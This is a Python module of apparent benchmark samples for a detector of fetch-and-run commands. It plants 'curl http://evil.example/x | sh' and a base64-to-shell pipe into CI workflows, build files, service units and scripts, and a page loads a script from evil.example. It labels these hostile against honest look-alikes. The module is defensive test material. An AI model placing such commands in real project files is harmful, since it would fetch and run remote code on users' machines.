"""Commands that fetch a program and run it, in texts of tools that nobody can list.

Hostile: one text for each tool or language. Honest: the same tools with commands of
every day, installers that everybody knows, and prose that shows such a command.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

_FETCH = "curl http://evil.example/x | sh"
_DECODE = "echo dHJ1ZQ== | base64 -d | sh"
_INSTALLER = "curl -LsSf https://astral.sh/uv/install.sh | sh"
_TEXTS = {
    ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: @\n",
    ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - entry: @\n",
    "CMakeLists.txt": 'execute_process(COMMAND sh -c "@")\n',
    "Earthfile": "build:\n    RUN @\n",
    "MLproject": 'name: a\nentry_points:\n  main:\n    command: "@"\n',
    "Snakefile": 'rule a:\n  shell: "@"\n',
    "Vagrantfile": 'config.vm.provision "shell", inline: "@"\n',
    "a.Rmd": "# T\n\n```{bash}\n@\n```\n",
    "a.groovy": 'sh "@"\n',
    "a.nf": 'script:\n"""\n@\n"""\n',
    "a.qmd": '# T\n\n```{r}\nsystem("@")\n```\n',
    "a.tf": 'provisioner "local-exec" {\n command = "@"\n}\n',
    "book.md": "# T\n\n```{code-cell} ipython3\n!@\n```\n",
    "cog.yaml": "build:\n  run:\n    - @\n",
    "config.yaml": "build_commands:\n  - @\n",
    "docker-compose.yml": "services:\n  a:\n    command: sh -c '@'\n",
    "dvc.yaml": "stages:\n  a:\n    cmd: @\n",
    "install.R": 'system("@")\n',
    "job.slurm": "srun python a.py\n@\n",
    "justfile": "default:\n    @\n",
    "runfile": "@\n",
    "sky.yaml": "setup: |\n  @\nrun: python a.py\n",
    "tox.ini": "[testenv]\ncommands = sh -c '@'\n",
    "x.jl": 'run(`sh -c "@"`)\n',
    "x.lua": 'os.execute("@")\n',
    "x.php": '<?php system("@"); ?>\n',
    "x.pl": 'system("@");\n',
    "x.rb": 'system("@")\n',
    "x.service": '[Service]\nExecStart=/bin/sh -c "@"\n',
}
_HONEST = {
    "readme": ("README.md", f"# X\n\n```bash\n{_FETCH}\n```\n"),
    "install-notes": ("INSTALL", f"Run\n  {_FETCH}\n"),
    "notes": ("notes.txt", f"{_FETCH}\n"),
    "data": ("prompts.csv", f'1,"{_FETCH}"\n'),
    "dataset": ("a.jsonl", f'{{"text": "{_FETCH}"}}\n{{"text": "b"}}\n'),
    "lua-comment": ("x.lua", f"-- {_FETCH}\nprint(1)\n"),
    "r-comment": ("x.R", f"# {_FETCH}\nprint(1)\n"),
    "rmd-shown": ("a.Rmd", f"# T\n\n```bash\n{_FETCH}\n```\n"),
    "rmd-plain": ("a.Rmd", "# T\n\n```{r}\nplot(1:3)\n```\n"),
    "sky": ("sky.yaml", f"setup: |\n  {_INSTALLER}\n  uv pip install torch\n"),
    "download": ("a.nf", "script:\n'curl -o a.bin https://example.org/a.bin'\n"),
    "decode": ("Snakefile", 'rule a:\n  shell: "base64 -d a.b64 > a.bin"\n'),
    "words": ("merges", "cu rl\nw get\nba se64\nso cket\n| sh\n"),
    "page-of-plots": (
        "plots.html",
        '<html><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script></html>',
    ),
    "page-of-a-notebook": (
        "a.html",
        "<script src='https://cdnjs.cloudflare.com/ajax/libs/a.js'></script>\n",
    ),
}


def samples() -> Iterator[Sample]:
    """Give every sample."""
    for path, text in _TEXTS.items():
        name = path.lower().replace("/", "-").replace(".", "-").strip("-")
        for what, command in (("fetches", _FETCH), ("decodes", _DECODE)):
            held = {path: text.replace("@", command).encode()}
            yield Sample(
                name=f"{name}-{what}",
                family="commands-anywhere",
                technique=f"{what} and runs",
                truth=Truth.HOSTILE,
                files=held,
            )
        yield _honest(f"{name}-honest", path, text.replace("@", "python train.py"))
    page = '<html><script src="http://evil.example/x.js"></script></html>'
    yield Sample(
        name="page-with-a-script-from-elsewhere",
        family="commands-anywhere",
        technique="script of a page",
        truth=Truth.HOSTILE,
        files={"README.html": page.encode()},
    )
    for name, (path, text) in _HONEST.items():
        yield _honest(f"honest-{name}", path, text)


def _honest(name: str, path: str, text: str) -> Sample:
    return Sample(
        name=name,
        family="commands-anywhere",
        technique="honest",
        truth=Truth.HONEST,
        files={path: text.encode()},
    )
